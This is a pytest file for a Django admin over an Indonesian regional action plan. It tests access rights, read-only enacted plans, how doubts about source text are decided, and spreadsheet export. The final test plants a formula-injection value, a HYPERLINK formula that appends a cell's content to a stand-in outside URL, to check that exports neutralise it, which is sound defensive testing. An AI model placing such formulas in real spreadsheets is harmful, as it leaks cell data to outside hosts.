"""Master data of the plan: the printed text and an enacted plan are read-only, a doubt can be decided."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gugus.workflow.lifecycle import Refused
from rad.actions.source_note import decide
from rad.models import ActionPlan, Activity, BudgetLine, Indicator, Programme, SourceNote, SubTaskForce

pytestmark = pytest.mark.django_db
PAGES = [ActionPlan, SubTaskForce, Programme, Activity, Indicator, BudgetLine, SourceNote]


def address(model, page, *args):
    return reverse(f"admin:rad_{model._meta.model_name}_{page}", args=args)


@pytest.mark.parametrize("model", PAGES, ids=lambda model: model.__name__)
def test_administrator_reads_each_page_and_no_other_does(client, cast, model):
    row = model.objects.last()
    pages = address(model, "changelist"), address(model, "change", row.pk)
    client.force_login(cast.admin)
    assert [client.get(page).status_code for page in pages] == [200, 200]
    assert client.get(address(model, "add")).status_code == 403
    assert client.post(address(model, "delete", row.pk), {"post": "yes"}).status_code == 403
    for user in (cast.rad, cast.koordinator):
        client.force_login(user)
        assert [client.get(page).status_code for page in pages] == [302, 302]  # to the login page


def test_a_stranger_meets_the_sites_own_login(client):
    response = client.get(reverse("admin:login"))
    assert response.status_code == 302
    assert response.url.startswith(reverse("account_login"))


def filled(indicator):
    """Return the form of an indicator in which everything is typed over."""
    targets = indicator.targets.order_by("year")
    data = {"direction": "increase", "accumulation": "annual", "printed": "Ditimpa", "code": "X"}
    data |= {"targets-TOTAL_FORMS": 3, "targets-INITIAL_FORMS": 3}
    for place, target in enumerate(targets):
        value = "" if target.value is None else target.value
        data |= {
            f"targets-{place}-id": target.pk,
            f"targets-{place}-indicator": indicator.pk,
            f"targets-{place}-state": target.state,
            f"targets-{place}-value": value,
            f"targets-{place}-unit": "peserta" if value else "",
            f"targets-{place}-printed": "Ditimpa",
        }
    return data


def test_the_reading_of_a_draft_changes_and_the_print_does_not(administrator):
    ActionPlan.objects.update(status="draft")
    indicator = Indicator.objects.get(code="A-02-01-1")
    printed = indicator.printed
    response = administrator.post(address(Indicator, "change", indicator.pk), filled(indicator))
    assert response.status_code == 302, response.context["errors"]
    indicator.refresh_from_db()
    assert (indicator.direction, indicator.code, indicator.printed) == ("increase", "A-02-01-1", printed)
    assert list(indicator.targets.order_by("year").values_list("printed", "unit")) == [
        ("0", ""),
        ("40 orang", "peserta"),
        ("", ""),
    ]


def test_nothing_of_an_enacted_plan_changes_and_the_page_names_the_way(administrator):
    indicator = Indicator.objects.get(code="A-02-01-1")
    before = Indicator.objects.filter(pk=indicator.pk).values().get(), list(indicator.targets.values())
    for model in (Indicator, Activity, BudgetLine):
        page = administrator.get(address(model, "change", model.objects.last().pk))
        assert reverse("rad:revision_list") in page.text
        assert 'name="_save"' not in page.text
    assert administrator.post(address(Indicator, "change", indicator.pk), filled(indicator)).status_code == 403
    assert (Indicator.objects.filter(pk=indicator.pk).values().get(), list(indicator.targets.values())) == before


def test_an_administrator_decides_a_doubt(administrator, cast):
    note = SourceNote.objects.get(printed="17 fesa")
    response = administrator.post(address(SourceNote, "change", note.pk), {"decision": ""})
    assert response.status_code == 200
    assert response.context["errors"]
    administrator.post(address(SourceNote, "change", note.pk), {"decision": "Dibaca “desa”.", "printed": "17 desa"})
    note.refresh_from_db()
    assert (note.state, note.decision, note.printed) == ("decided", "Dibaca “desa”.", "17 fesa")
    assert note.decided_by == cast.admin
    assert note.decided_at


def test_who_decides(cast):
    note = SourceNote.objects.get(printed="17 fesa")
    assert decide(note, by=cast.rad, decision="Desa").decided_by == cast.rad
    with pytest.raises(Refused, match="Hanya pengelola rencana aksi"):
        decide(note, by=cast.bupati, decision="Desa")
    with pytest.raises(Refused, match="Tulis keputusannya"):
        decide(note, by=cast.rad, decision="  ")


def test_doubts_as_a_spreadsheet(administrator, cast):
    formula = '=HYPERLINK("https://example.id/"&A1,"desa")'
    decide(SourceNote.objects.get(printed="17 fesa"), by=cast.rad, decision=formula)
    response = administrator.get(address(SourceNote, "export"))
    rows = list(load_workbook(BytesIO(response.content)).active.rows)
    assert [cell.value for cell in rows[0][:3]] == ["code", "annex", "row"]
    assert any("17 fesa" in str(cell.value) for row in rows for cell in row)
    [decided] = [cell for row in rows for cell in row if cell.value == formula]
    assert decided.data_type == "s", "no spreadsheet runs what somebody wrote"
